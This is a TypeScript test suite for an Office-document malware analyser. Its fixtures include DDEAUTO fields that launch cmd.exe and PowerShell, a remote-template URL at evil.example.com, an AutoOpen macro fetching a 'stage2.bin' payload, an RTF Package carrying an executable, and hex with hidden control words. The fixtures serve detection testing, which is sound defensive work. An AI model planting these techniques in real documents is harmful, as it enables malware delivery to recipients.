// The Office analyser on documents the tests build: a Word file whose AutoOpen macro runs an encoded PowerShell
// command, a docx with a remote template and a DDEAUTO field, an RTF whose \objdata Package carries an
// executable, an encrypted OOXML file; plus truncated and corrupt inputs, which must give partial results, and
// the heuristics the strelka fixture documents must raise.
import assert from 'node:assert/strict';
import { existsSync, readFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import { after, before, describe, it } from 'node:test';
import officeCrypto from 'officecrypto-tool';
import { validateManifest } from '../../../src/core/runtime/manifest.js';
import { execute, manifest } from '../../../src/services/office/index.js';
import { allTags, heuristicIds, runOn, tempDir } from '../../helpers/service.js';
import { AUTOOPEN_MACRO as MACRO, autoOpenDocument, biffWorkbook, docxParts, oleWith, wordStream, ole1Object, packageNative, rtfWithObject, templateRel, tinyPe, wordWithMacros, zipParts } from './build.js';

let scratch: { dir: string; cleanup: () => Promise<void> };
before(async () => { scratch = await tempDir('office-test-'); });
after(async () => { await scratch.cleanup(); });

const run = (name: string, type: string, data: Buffer, config: Record<string, unknown> = {}) => runOn(execute, scratch.dir, name, type, data, config);

describe('Office manifest', () => {
  it('is valid and takes Office labels but not e-mail', () => {
    assert.doesNotThrow(() => validateManifest(manifest));
    const accepts = new RegExp(`^(?:${manifest.accepts})`);
    const rejects = new RegExp(`^(?:${manifest.rejects})`);
    for (const l of ['document/office/word', 'document/office/excel', 'document/office/powerpoint', 'document/office/unknown', 'document/office/rtf', 'document/office/ole', 'document/office/passwordprotected']) {
      assert.ok(accepts.test(l) && !rejects.test(l), l);
    }
    assert.ok(rejects.test('document/office/email'));
  });
});

describe('Word document with an AutoOpen macro', () => {
  it('extracts the macro source and flags auto-exec, shell and the indicators', async () => {
    const out = await run('invoice.doc', 'document/office/word', autoOpenDocument());
    const ids = heuristicIds(out);
    for (const id of [33, 32, 30, 20, 27, 100]) assert.ok(ids.includes(id), `heuristic ${id} in ${ids.join(',')}`);
    const vba = (out.extracted ?? []).find((e) => e.name === 'NewMacros.vba');
    assert.ok(vba, 'macro child extracted');
    assert.equal(readFileSync(vba.path, 'latin1'), MACRO);
    assert.ok((out.extracted ?? []).some((e) => e.name === 'ThisDocument.vba'));
    assert.deepEqual(allTags(out, 'technique.macro'), ['Contains VBA Macro(s)']);
    assert.equal(allTags(out, 'file.ole.macro.sha256').length, 2);
    const strings = allTags(out, 'file.ole.macro.suspicious_string');
    for (const s of ['AutoOpen', 'Shell', 'powershell', 'MSXML2.XMLHTTP']) assert.ok(strings.includes(s), `${s} in ${strings.join(', ')}`);
    assert.deepEqual(allTags(out, 'network.static.uri'), ['http://93.184.216.34/stage2.bin']);
    assert.deepEqual(allTags(out, 'network.static.ip'), ['93.184.216.34']);
    const suspicious = out.sections.find((s) => s.heuristic?.id === 30)!;
    assert.deepEqual(Object.keys(suspicious.heuristic!.signatures!).sort(), ['createobject', 'encoded_powershell', 'powershell', 'shell', 'xmlhttp']);
    assert.deepEqual(suspicious.heuristic!.attack, ['T1105']);
    const project = out.sections.find((s) => s.heuristic?.id === 33)!;
    assert.deepEqual((project.body as Record<string, unknown>).references, ['stdole']);
    assert.equal((project.body as Record<string, unknown>).version, '1234567.8');
  });

  it('reports a macro without auto-exec or process launch without the combination heuristic', async () => {
    const doc = wordWithMacros([{ name: 'Module1', type: 'standard', code: 'Attribute VB_Name = "Module1"\r\nSub Format()\r\n  Selection.Font.Bold = True\r\nEnd Sub' }]);
    const out = await run('plain.doc', 'document/office/word', doc);
    assert.deepEqual(heuristicIds(out), [33]);
    assert.equal(out.extracted?.length, 1);
  });
});

describe('binary Office files', () => {
  it('finds DDEAUTO field codes in the WordDocument stream', async () => {
    const field = '\x13 DDEAUTO c:\\Windows\\System32\\cmd.exe "/k powershell -c calc" \x14result\x15';
    const doc = oleWith({ WordDocument: wordStream(`Dear customer, ${field} regards`), '1Table': Buffer.alloc(4096) });
    const out = await run('dde.doc', 'document/office/word', doc);
    assert.ok(heuristicIds(out).includes(16));
    assert.deepEqual(allTags(out, 'file.ole.dde_link'), ['DDEAUTO c:\\Windows\\System32\\cmd.exe "/k powershell -c calc"']);
  });

  it('flags BIFF8 macro sheets from their BOUNDSHEET records', async () => {
    const book = biffWorkbook([{ name: 'Sheet1', type: 0, state: 0 }, { name: 'Auto_Open', type: 1, state: 2 }]);
    const out = await run('book.xls', 'document/office/excel', oleWith({ Workbook: book }));
    const s = out.sections.find((x) => x.heuristic?.id === 51)!;
    assert.ok(s, 'XLM section');
    assert.deepEqual(s.heuristic!.signatures, { macro_sheet: 1, macro_sheet_very_hidden: 1 });
    assert.deepEqual(s.body, [{ name: 'Sheet1', type: 'worksheet', state: 'visible' }, { name: 'Auto_Open', type: 'macrosheet', state: 'very hidden' }]);
  });

  it('rebuilds an embedded Word document from its storage and extracts it', async () => {
    const inner = wordStream('inner document text');
    const doc = oleWith({ WordDocument: wordStream('outer'), 'ObjectPool/_1234/WordDocument': inner, 'ObjectPool/_1234/1Table': Buffer.alloc(600, 1) });
    const out = await run('outer.doc', 'document/office/word', doc);
    const child = (out.extracted ?? []).find((e) => e.name === '_1234.ole');
    assert.ok(child, JSON.stringify(out.extracted));
    const nested = await run('_1234.ole', 'document/office/word', readFileSync(child.path));
    const listing = nested.sections[0]!.body as Array<{ name: string; size: number }>;
    // cfb adds a 4-byte marker stream ("\x01Sh33tJ5") to every file it writes.
    assert.deepEqual(listing.filter((r) => r.name !== 'Sh33tJ5').map((r) => [r.name, r.size]).sort(), [['1Table', 600], ['WordDocument', inner.length]]);
  });
});

describe('OOXML', () => {
  it('flags an external attachedTemplate as template injection and a DDEAUTO field', async () => {
    const body = '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe </w:instrText></w:r>'
      + '<w:r><w:instrText>"/k calc.exe"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>';
    const docx = await zipParts(docxParts(body, templateRel('http://evil.example.com/tpl.dotm')));
    const out = await run('letter.docx', 'document/office/word', docx);
    const rel = out.sections.find((s) => s.heuristic?.id === 1)!;
    assert.ok(rel, 'external relationship section');
    assert.deepEqual(rel.heuristic!.signatures, { attachedtemplate: 1 });
    assert.deepEqual(rel.heuristic!.attack, ['T1221']);
    assert.deepEqual(allTags(out, 'network.static.uri'), ['http://evil.example.com/tpl.dotm']);
    const dde = out.sections.find((s) => s.heuristic?.id === 16)!;
    assert.ok(dde, 'suspicious DDE section');
    assert.deepEqual(allTags(out, 'file.ole.dde_link'), ['DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"']);
  });

  it('reads the VBA project in vbaProject.bin and Excel 4.0 macro sheets', async () => {
    const vbaBin = wordWithMacros([{ name: 'Module1', type: 'standard', code: 'Sub Workbook_Open()\r\n  CreateObject("WScript.Shell").Run "calc"\r\nEnd Sub' }]);
    const parts: Record<string, string | Buffer> = {
      ...docxParts('<w:p/>'), 'xl/vbaProject.bin': vbaBin, 'xl/macrosheets/sheet1.xml': '<xm:macrosheet/>',
      'xl/workbook.xml': '<workbook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Data" sheetId="1" r:id="rId2"/><sheet name="Macro1" sheetId="2" state="veryHidden" r:id="rId1"/></sheets></workbook>',
      'xl/_rels/workbook.xml.rels': '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet" Target="macrosheets/sheet1.xml"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
    };
    const out = await run('book.xlsm', 'document/office/excel', await zipParts(parts));
    const ids = heuristicIds(out);
    for (const id of [33, 32, 100, 51]) assert.ok(ids.includes(id), `heuristic ${id} in ${ids.join(',')}`);
    const xlm = out.sections.find((s) => s.heuristic?.id === 51)!;
    assert.deepEqual(xlm.heuristic!.signatures, { macro_sheet: 1, macro_sheet_very_hidden: 1 });
    assert.deepEqual((xlm.body as Record<string, unknown>).sheets, ['Macro1 (veryHidden)']);
    assert.ok((out.extracted ?? []).some((e) => e.name === 'Module1.vba'));
  });

  it('decrypts an encrypted package with a default password and extracts it', async () => {
    const docx = await zipParts(docxParts('<w:p><w:r><w:t>secret</w:t></w:r></w:p>'));
    const encrypted = officeCrypto.encrypt(docx, { password: 'infected' });
    const out = await run('locked.docx', 'document/office/passwordprotected', encrypted);
    const s = out.sections.find((x) => x.heuristic?.id === 101)!;
    assert.ok(s, 'decrypted section');
    assert.deepEqual(allTags(out, 'info.password'), ['infected']);
    assert.equal(out.extracted?.length, 1);
    assert.deepEqual(readFileSync(out.extracted![0]!.path), docx);
  });

  it('uses passwords the submission shared, and reports when none works', async () => {
    const docx = await zipParts(docxParts('<w:p/>'));
    // Standard (AES-128) encryption: the agile kind costs about two seconds per wrong password in this library.
    const encrypted = officeCrypto.encrypt(docx, { password: 'S3cr3t-from-mail', type: 'standard' });
    const miss = await run('locked.docx', 'document/office/passwordprotected', encrypted);
    assert.ok(heuristicIds(miss).includes(102));
    assert.equal(miss.extracted, undefined);
    const hit = await run('locked.docx', 'document/office/passwordprotected', encrypted, { password: 'S3cr3t-from-mail' });
    assert.ok(heuristicIds(hit).includes(101));
  });
});

describe('RTF', () => {
  it('decodes \\objdata, parses the OLE1 Package and extracts the executable', async () => {
    const pe = tinyPe();
    const rtf = rtfWithObject(ole1Object('Package', packageNative('invoice.exe', pe)), 'Package');
    const out = await run('doc.rtf', 'document/office/rtf', rtf);
    const child = (out.extracted ?? []).find((e) => e.name === 'invoice.exe');
    assert.ok(child, 'payload extracted');
    assert.deepEqual(readFileSync(child.path), pe);
    const ids = heuristicIds(out);
    assert.ok(ids.includes(21) && ids.includes(11), ids.join(','));
    assert.deepEqual(out.sections.find((s) => s.heuristic?.id === 11)!.heuristic!.signatures, { embedded_pe_file: 1 });
  });

  it('flags Equation Editor objects and \\objupdate, even with control words hidden in the hex', async () => {
    const obj = ole1Object('Equation.3', Buffer.from('0300010000000000', 'hex')).toString('hex');
    const hidden = `${obj.slice(0, 10)}{\\*\\bkmkstart x}\\par ${obj.slice(10)}`;
    const rtf = Buffer.from(`{\\rtf1{\\object\\objemb\\objupdate{\\*\\objclass EqUaTiOn.3}{\\*\\objdata ${hidden}}}}`, 'latin1');
    const out = await run('eq.rtf', 'document/office/rtf', rtf);
    const s = out.sections.find((x) => x.heuristic?.id === 11)!;
    assert.deepEqual(s.heuristic!.signatures, { equation_editor: 1, objupdate: 1 });
    const table = out.sections.find((x) => x.heuristic?.id === 21)!;
    assert.equal((table.body as Array<Record<string, unknown>>)[0]!.class, 'Equation.3');
  });
});

describe('damaged input', () => {
  it('survives truncation at every 512-byte boundary of a macro document', async () => {
    const doc = autoOpenDocument();
    for (let cut = 512; cut < doc.length; cut += 512) {
      const out = await run('cut.doc', 'document/office/word', doc.subarray(0, cut));
      assert.ok(out.sections.length > 0, `cut at ${cut}`);
    }
  });

  it('survives corrupt bytes in OLE, OOXML and RTF inputs', async () => {
    const inputs = [autoOpenDocument(), await zipParts(docxParts('<w:p/>', templateRel('http://a.example.com/t.dotm'))), rtfWithObject(ole1Object('Package', packageNative('a.exe', tinyPe())), 'Package')];
    let seed = 12345;
    const rand = () => (seed = (seed * 1103515245 + 12345) & 0x7fffffff);
    for (const input of inputs) {
      for (let round = 0; round < 25; round++) {
        const b = Buffer.from(input);
        for (let k = 0; k < 20; k++) b[8 + (rand() % (b.length - 8))] = rand() & 0xff;
        const out = await run('bad', 'document/office/unknown', b);
        assert.ok(Array.isArray(out.sections));
      }
    }
  });

  it('names what it cannot read', async () => {
    const out = await run('x.doc', 'document/office/unknown', Buffer.from('plain text, not a document'));
    assert.deepEqual(heuristicIds(out), [103]);
    const bad = Buffer.alloc(1024);
    Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).copy(bad);
    const ole = await run('x.doc', 'document/office/unknown', bad);
    assert.equal(ole.partial, true);
    assert.ok(ole.sections.some((s) => s.title === 'Unreadable compound file'));
  });
});

describe('Office on the strelka fixtures', () => {
  // Their whole outputs are pinned by the golden tests (testdata/office/); these facts hold whatever else changes.
  // The encrypted fixtures were saved with "Password1!" (test_password.*) and "aaa" (test_password_brute.*,
  // which the candidates must not find).
  const fixtures = resolve(fileURLToPath(new URL('../../../', import.meta.url)), '../shared/corpus/strelka-fixtures');
  const CASES: Array<[string, string, Record<string, unknown>, Array<number | string>]> = [
    ['test.xls', 'document/office/excel', {}, [33, 51, 30, 27]],
    ['test_pe_object.doc', 'document/office/word', {}, [29]],
    ['test_pe_object_classic.doc', 'document/office/word', {}, [29]],
    ['test_password.doc', 'document/office/passwordprotected', { passwords: ['infected', 'Password1!'] }, [101]],
    ['test_password.docx', 'document/office/passwordprotected', { passwords: ['Password1!'] }, [101]],
    ['test_password_brute.doc', 'document/office/passwordprotected', { passwords: ['infected', 'password'] }, [102]],
    ['test_password_brute.docx', 'document/office/passwordprotected', { passwords: ['infected'] }, [102]],
  ];
  const fixture = (file: string, t: { skip: (m: string) => void }): Buffer | undefined => {
    const path = join(fixtures, file);
    if (existsSync(path)) return readFileSync(path);
    if (process.env.CI === 'true') assert.fail(`fixture missing: ${path}`);
    t.skip('fixture corpus not present');
    return undefined;
  };

  for (const [file, type, config, expected] of CASES) {
    it(`${file} raises heuristics ${expected.join(', ')}`, async (t) => {
      const data = fixture(file, t);
      if (!data) return;
      const out = await run(file, type, data, config);
      const ids = heuristicIds(out);
      for (const id of expected) assert.ok(ids.includes(id), `${file}: heuristic ${id} in ${ids.join(',')}`);
    });
  }

  it('extracts the executable of the embedded Package object', async (t) => {
    const data = fixture('test_pe_object.doc', t);
    if (!data) return;
    const out = await run('test_pe_object.doc', 'document/office/word', data);
    const exe = out.extracted?.find((e) => e.name === 'test.exe');
    assert.ok(exe);
    assert.equal(readFileSync(exe.path).subarray(0, 2).toString(), 'MZ');
  });
});
